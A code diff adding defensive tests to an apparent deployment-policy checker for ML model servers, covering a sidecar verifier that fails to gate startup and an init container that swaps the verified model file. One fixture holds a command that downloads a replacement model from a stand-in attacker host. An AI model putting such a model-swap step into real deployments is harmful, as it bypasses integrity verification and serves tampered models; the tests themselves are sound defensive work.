@@ -167,3 +167,33 @@ def test_an_oci_digest_is_still_content_addressed(engine: Any, digest: str) -> N
     uri = f"oci://registry.example.com/models/credit-scorer@{digest}"
     assert content_addressed(uri) is True
     assert decide(engine, deployment(evidence(digest, uri), [vllm(uri)])) == (True, set())
+
+
+# -- attack: a verifier that does not gate the model server -------------------------------
+
+
+def test_a_sidecar_verifier_does_not_gate_the_server(engine: Any, digest: str) -> None:
+    """restartPolicy: Always makes an init container a sidecar: the server starts beside it,
+    whether or not the check passes."""
+    ok = deployment(evidence(digest), [vllm(ATTESTED_URI)], [verifier(digest)])
+    assert decide(engine, ok) == (True, set())
+    sidecar = verifier(digest, restartPolicy="Always")
+    allowed, controls = decide(
+        engine, deployment(evidence(digest), [vllm(ATTESTED_URI)], [sidecar])
+    )
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_an_init_container_after_the_verifier_can_replace_the_bytes(
+    engine: Any, digest: str
+) -> None:
+    swap = {
+        "name": "swap",
+        "image": "busybox:1.36",
+        "command": ["sh", "-c", "wget -O /models/model.onnx http://attacker.example/m.onnx"],
+    }
+    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [verifier(digest), swap])
+    allowed, controls = decide(engine, obj)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+    fetch_then_verify = deployment(evidence(digest), [vllm(ATTESTED_URI)], [swap, verifier(digest)])
+    assert decide(engine, fetch_then_verify) == (True, set())
